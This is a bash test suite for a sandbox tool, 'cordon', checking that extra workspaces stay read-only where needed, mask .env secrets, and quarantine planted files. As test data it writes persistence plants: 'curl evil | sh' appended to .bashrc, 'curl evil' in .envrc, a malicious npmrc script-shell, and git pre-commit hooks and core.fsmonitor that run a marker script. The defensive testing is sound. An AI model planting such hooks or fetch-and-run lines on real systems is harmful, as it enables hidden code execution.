#!/bin/bash
# Several workspaces (--workspace repeated): the first is the working
# directory, each further one is writable (or read-only with :ro) at its
# own host path, with the same protections as the first. Proven from
# outside: the host's files and the host's own git after the session.
. "$(dirname "$0")/../lib.sh"

home=$(mktemp -d "$T/home.XXXXXX")
chmod 755 "$home"
export HOME="$home" XDG_STATE_HOME="$home/state" XDG_DATA_HOME="$home/data" GIT_CONFIG_NOSYSTEM=1 \
	GIT_AUTHOR_NAME=t GIT_AUTHOR_EMAIL=t@example.test GIT_COMMITTER_NAME=t \
	GIT_COMMITTER_EMAIL=t@example.test
marker="$T/PLANT-RAN.$$"
evil="$T/evil.sh"
printf '#!/bin/sh\ntouch "%s"\n' "$marker" >"$evil"
chmod 755 "$evil"
outside=$(mktemp -d "$SHOWN/outside.XXXXXX")
chmod 777 "$outside" # so that only the mount, not file modes, can refuse
said() { printf '%s' "$OUT" | grep -qE -- "$1"; }
has_git=false
command -v git >/dev/null && has_git=true
mkrepo() { (cd "$1" && git init -q . && echo a >a && git add a && git commit -qm init); }

one=$(new_ws)
two=$(new_ws)
ro=$(new_ws)
echo readable >"$ro/f"
echo 'TOKEN=topsecret-two' >"$two/.env"
mkdir "$two/cfg"
echo 'TOKEN=topsecret-cfg' >"$two/cfg/prod.env"
run2() { (cd "$one" && "$CORDON" run -q -w "$one" -w "$two" -w "$ro:ro" "$@"); }
run2_home() { (cd "$one" && "$CORDON" run -q -w "$one" -w "$home" "$@"); }

# 1. The first workspace is the working directory.
expect_output "the working directory is the first workspace" "^$one\$" run2 -- pwd

# 2. The second workspace is writable at its own path; the host sees it.
expect_output "a write in the second workspace succeeds inside" "^written$" \
	run2 -- sh -c "echo from-sandbox > '$two/new' && echo written"
check "the second workspace's file is on the host, with its content" \
	grep -qx from-sandbox "$two/new"
expect_output "the first workspace stays writable beside it" "^written$" \
	run2 -- sh -c "echo one > '$one/new' && echo written"
check "... and the first workspace's file is on the host" grep -qx one "$one/new"

# 3. A :ro workspace is readable, not writable.
expect_output "a :ro workspace is readable" "^readable$" run2 -- cat "$ro/f"
check "control: the :ro workspace is writable without cordon" touch "$ro/control"
expect_fail "a write in the :ro workspace is refused (EROFS)" "Read-only file system" \
	run2 -- sh -c "echo x > '$ro/planted'"
check "nothing written in the :ro workspace on the host" test ! -e "$ro/planted"
expect_fail "a read-only first workspace (DIR:ro) refuses writes (EROFS)" \
	"Read-only file system" \
	sh -c "cd '$one' && '$CORDON' run -q -w '$one:ro' -- sh -c 'echo x > ro-first'"
check "nothing written in the read-only first workspace" test ! -e "$one/ro-first"
# As `mktemp -d` makes it: 0700, the invoker's own. Root's sandbox user
# reads it through the idmapped workspace, read-only as given.
closed=$(mktemp -d "$T/closed.XXXXXX")
echo secret-plan > "$closed/plan.txt"
chmod 600 "$closed/plan.txt"
if [ "$(id -u)" != 0 ] || [ "$(root_identity "$closed")" = idmap ]; then
	expect_output "a 0700 read-only first workspace is readable inside" "^secret-plan$" \
		sh -c "cd '$closed' && '$CORDON' run -q -w '$closed:ro' -- cat plan.txt"
	expect_fail "... and refuses writes (EROFS)" "Read-only file system" \
		sh -c "cd '$closed' && '$CORDON' run -q -w '$closed:ro' -- touch new"
else
	skip "a 0700 read-only first workspace is readable inside" "no idmapped mounts for root here"
	skip "... and refuses writes (EROFS)" "no idmapped mounts for root here"
fi
check "nothing written in the 0700 read-only workspace" test ! -e "$closed/new"

# Two projects under a 0750 home, as a user's home is made: both reachable
# (root's sandbox user is not in the home's group).
h=$(mktemp -d "$T/home.XXXXXX")
chmod 750 "$h"
mkdir "$h/p1" "$h/p2"
echo in-p2 > "$h/p2/f"
expect_output "under a 0750 home: the second workspace is writable" "^wrote$" \
	sh -c "cd '$h/p1' && '$CORDON' run -q -w '$h/p1' -w '$h/p2' -- sh -c 'echo y > $h/p2/g && echo wrote'"
check "... the write is on the host" test -f "$h/p2/g"
expect_output "under a 0750 home: a :ro second workspace is readable" "^in-p2$" \
	sh -c "cd '$h/p1' && '$CORDON' run -q -w '$h/p1' -w '$h/p2:ro' -- cat '$h/p2/f'"

# 3b. No set-id file can be made in the second workspace (it would keep
# its bit on the host).
cp /bin/true "$two/tool"
check "control: the host can set the set-id bit there" sh -c "chmod u+s '$two/tool' && test -u '$two/tool' && chmod u-s '$two/tool'"
expect_fail "chmod u+s in the second workspace is refused (EPERM)" "Operation not permitted" \
	run2 -- chmod u+s "$two/tool"
check "... the host's file has no set-id bit" test ! -u "$two/tool"

# 3c. A home as a further workspace: its shell start-up files stay read-only.
echo '# the user'"'"'s' >"$home/.bashrc"
check "control: the host can write the home's .bashrc" sh -c "echo '# ok' >> '$home/.bashrc'"
# Invoked by root, the read-only bind shows the file as root's (not idmapped):
# the permission check refuses before the read-only mount does.
expect_fail "a home given as the second workspace keeps .bashrc read-only (EROFS, EACCES)" \
	"Read-only file system|Permission denied" run2_home -- sh -c "echo 'curl evil | sh' >> '$home/.bashrc'"
check "... the host's .bashrc has nothing planted" sh -c "! grep -q evil '$home/.bashrc'"
expect_output "... while the home itself is writable" "^written$" \
	run2_home -- sh -c "echo x > '$home/notes' && echo written"

# 4. Outside every workspace the host stays read-only.
check "control: the outside directory is writable without cordon" touch "$outside/control"
expect_fail "a write outside every workspace is refused (EROFS)" "Read-only file system" \
	run2 -- sh -c "echo x > '$outside/planted'"
check "nothing planted outside" test ! -e "$outside/planted"

# 5. Secrets in the second workspace are masked as in the first.
check "control: the host reads the second workspace's .env" grep -q topsecret-two "$two/.env"
run_capture run2 -- sh -c "cat '$two/.env' '$two/cfg/prod.env'; echo end"
check "the second workspace's .env and cfg/prod.env read empty inside" \
	sh -c '! printf "%s" "$1" | grep -q topsecret && printf "%s" "$1" | grep -q end' _ "$OUT"
echo 'TOKEN=topsecret-ro' >"$ro/.env"
run_capture run2 -- sh -c "cat '$ro/.env'; echo end"
check "a :ro workspace's .env reads empty inside" \
	sh -c '! printf "%s" "$1" | grep -q topsecret && printf "%s" "$1" | grep -q end' _ "$OUT"

# 6. Files that run later outside are protected in the second workspace.
# Absent at start: written inside, quarantined at the end (a mount point on
# the host would be needed to make it read-only).
run_capture run2 -- sh -c "echo 'curl evil' > '$two/.envrc'"
check "a .envrc made in the second workspace is quarantined at the end" \
	said "$two: quarantined .envrc"
check "no .envrc left in the second workspace" test ! -e "$two/.envrc"
echo 'use nix' >"$two/.envrc"
expect_fail "an existing .envrc in the second workspace is read-only (EROFS)" \
	"Read-only file system" run2 -- sh -c "echo 'curl evil' > '$two/.envrc'"
check "... and keeps the user's content" grep -qx 'use nix' "$two/.envrc"
mkdir -p "$two/pkg"
run_capture run2 -- sh -c "echo 'script-shell=$evil' > '$two/pkg/.npmrc'; echo done"
check "a pkg/.npmrc made in the second workspace is quarantined at the end" \
	said "$two: quarantined pkg/.npmrc"
check "... and gone from the second workspace" test ! -e "$two/pkg/.npmrc"

# 7. A git hook planted in the second workspace does not land: the host's
# own git commit afterwards runs nothing. Control first: the same plant
# without cordon runs at the host's commit.
if $has_git; then
	hook='printf "#!/bin/sh\ntouch %s\n" "$1" > "$2/.git/hooks/pre-commit" && chmod +x "$2/.git/hooks/pre-commit"'
	ctl=$(new_ws)
	mkrepo "$ctl"
	sh -c "$hook" _ "$marker" "$ctl"
	rm -f "$marker"
	(cd "$ctl" && echo b >b && git add b && git commit -qm b) >/dev/null 2>&1
	check "control: a planted pre-commit hook runs at the host's git commit" test -e "$marker"
	rm -f "$marker"

	mkrepo "$two"
	expect_fail "an existing repository's hooks in the second workspace are read-only (EROFS)" \
		"Read-only file system" run2 -- sh -c "$hook" _ "$marker" "$two"
	# git writes config.lock and renames it over: EBUSY on the bound file
	expect_fail "its .git/config cannot be changed" "could not write config file" \
		run2 -- git -C "$two" config core.hooksPath /tmp
	check "... the host's config has no core.hooksPath" \
		sh -c "! git -C '$two' config core.hooksPath"
	(cd "$two" && echo c >c && git add c && git commit -qm c) >/dev/null 2>&1
	check "the host's git commit in the second workspace runs nothing" test ! -e "$marker"
	check "... and the commit was made (git works there)" \
		sh -c "cd '$two' && git log --oneline | grep -qw c"

	# A repository made in the session (no .git at start): what it plants
	# is removed at the end.
	three=$(new_ws)
	run_capture sh -c "cd '$one' && '$CORDON' run -q -w '$one' -w '$three' -- sh -c \
		'git init -q \"\$0\" && $hook && git -C \"\$0\" config core.fsmonitor \"\$2\" && echo planted' \
		'$three' '$marker' '$three' '$evil'"
	check "a repository made in the second workspace: the plant ran inside" said planted
	check "... the end of the session quarantines its hook" \
		said "$three: quarantined .git/hooks/pre-commit"
	check "... and removes its core.fsmonitor" said "$three: removed .core.fsmonitor."
	rm -f "$marker"
	(cd "$three" && echo a >a && git add a && git commit -qm a && git status) >/dev/null 2>&1
	check "the host's git commit and status in the new repository run nothing" \
		test ! -e "$marker"

	# A cordon SIGKILLed mid-session: the next cordon finishes the clean-up
	# of every workspace from the session's record.
	four=$(new_ws)
	(cd "$one" && exec "$CORDON" run -q -w "$one" -w "$four" -- sh -c \
		'git init -q "$0" && git -C "$0" config core.fsmonitor "$1" && touch "$0/planted" && sleep 1000' \
		"$four" "$evil") >"$T/killed.out" 2>&1 &
	pid=$!
	track_pid $pid
	for i in $(seq 1 300); do
		[ -e "$four/planted" ] && break
		sleep 0.1
	done
	kill -KILL $pid
	wait $pid 2>/dev/null
	check "SIGKILLed cordon: the second workspace's fsmonitor is on the host" \
		test "$(git -C "$four" config core.fsmonitor)" = "$evil"
	run_capture sh -c "cd '$one' && '$CORDON' run -q -- true"
	check "the next cordon run removes it, naming the second workspace" \
		said "$four: removed .core.fsmonitor."
	rm -f "$marker"
	(cd "$four" && git status) >/dev/null 2>&1
	check "the host's git status in it runs nothing afterwards" test ! -e "$marker"
else
	skip "git plants in the second workspace" "git is not installed"
fi

# 8. What is refused, with exit 125 and the reason.
mkdir -p "$one/inner"
expect_status "a workspace inside another is refused (125)" 125 \
	"$CORDON" run -w "$one" -w "$one/inner" -- true
check "... saying they overlap" said "overlaps workspace"
expect_status "a workspace around another is refused (125)" 125 \
	"$CORDON" run -w "$one/inner" -w "$one" -- true
check "... saying they overlap" said "overlaps workspace"
expect_status "the same workspace twice is refused (125)" 125 \
	"$CORDON" run -w "$one" -w "$two" -w "$two/." -- true
check "... saying it was given twice" said "given twice"
expect_status "a workspace that does not exist is refused (125)" 125 \
	"$CORDON" run -w "$one" -w "$T/no-such-dir" -- true
check "... saying so" said "No such file or directory"
expect_status "a workspace that is a file is refused (125)" 125 \
	"$CORDON" run -w "$one" -w "$ro/f" -- true
check "... saying so" said "Not a directory"
expect_status "/ as a further workspace is refused (125)" 125 \
	"$CORDON" run -w "$one" -w / -- true
args=(-w "$one")
for i in $(seq 1 16); do
	mkdir -p "$outside/many$i"
	args+=(-w "$outside/many$i")
done
expect_status "more than 16 workspaces are refused (125)" 125 "$CORDON" run "${args[@]}" -- true
check "... saying how many are allowed" said "more than 16 workspaces"
expect_status "--review with a second read-write workspace is refused (125)" 125 \
	"$CORDON" run --name ws-review --review -w "$one" -w "$two" -- true
check "... saying only the first is copy-on-write" said "only the first workspace is copy-on-write"

# 9. A directory whose name ends in :ro: an explicit mode after it.
colon="$(new_ws)/odd:ro"
mkdir "$colon"
(cd "$one" && "$CORDON" run -q -w "$one" -w "$colon:rw" -- sh -c "echo y > '$colon/y' && echo written") \
	>"$T/colon.out" 2>&1
check "a directory named 'x:ro' given as 'x:ro:rw' is writable" grep -qx y "$colon/y"

# 10. The audit trail's start record lists every workspace.
log="$T/ws-audit.jsonl"
run2 --audit-log "$log" -- true >/dev/null 2>&1
check "the session record lists both workspaces and the :ro one, the first first" \
	$PY -c '
import json, sys
recs = [json.loads(l) for l in open(sys.argv[1])]
s = [r for r in recs if r["type"] == "session_start"][-1]
want = [{"path": sys.argv[2], "ro": False}, {"path": sys.argv[3], "ro": False},
        {"path": sys.argv[4], "ro": True}]
sys.exit(0 if s["cwd"] == sys.argv[2] and s["workspaces"] == want else 1)
' "$log" "$one" "$two" "$ro"

# 11. A named sandbox records every workspace; a later run with other
# workspaces is allowed and replaces the record.
# The sandbox's state off /var (refused there) and off overlayfs.
named_base=""
for d in /tmp /dev/shm; do
	[ "$(stat -f -c %T "$d" 2>/dev/null)" = overlayfs ] && continue
	named_base=$(mktemp -d "$d/cordon-ws-named.XXXXXX" 2>/dev/null) && break
done
suite_cleanup() { [ -n "$named_base" ] && rm -rf "$named_base"; return 0; }
export XDG_DATA_HOME="${named_base:-$home}/data"
run_capture sh -c "cd '$one' && '$CORDON' run -q --name ws-named -w '$one' -w '$two' -w '$ro:ro' -- true"
if [ "$RC" -eq 0 ]; then
	expect_output "cordon ls shows the first workspace and how many more" \
		"ws-named .* $one \\(\\+2\\)\$" "$CORDON" ls
	check "cordon ls --json lists all three workspaces, the first first" \
		sh -c "'$CORDON' ls --json | $PY -c '
import json, sys
v = [s for s in json.load(sys.stdin) if s[\"name\"] == \"ws-named\"][0]
sys.exit(0 if v[\"workspaces\"] == sys.argv[1:] else 1)' '$one' '$two' '$ro'"
	expect_status "re-entering it with one workspace is allowed" 0 \
		sh -c "cd '$one' && '$CORDON' run -q --name ws-named -w '$one' -- true"
	expect_output "... and cordon ls then shows no further workspace" "ws-named .* $one\$" \
		"$CORDON" ls
	"$CORDON" rm ws-named >/dev/null 2>&1
else
	skip "named sandbox with several workspaces" "named sandboxes do not run here: $OUT"
fi

# 12. cordon policy show names them.
expect_output "policy show with several -w lists the workspaces" "$ro  \\(read-only\\)" \
	"$CORDON" policy show -w "$one" -w "$two" -w "$ro:ro"
if $has_git; then
	expect_output "policy show --mounts keeps the second workspace's hooks read-only" \
		"read-only +$two/.git/hooks" "$CORDON" policy show --mounts -w "$one" -w "$two"
fi
done_testing
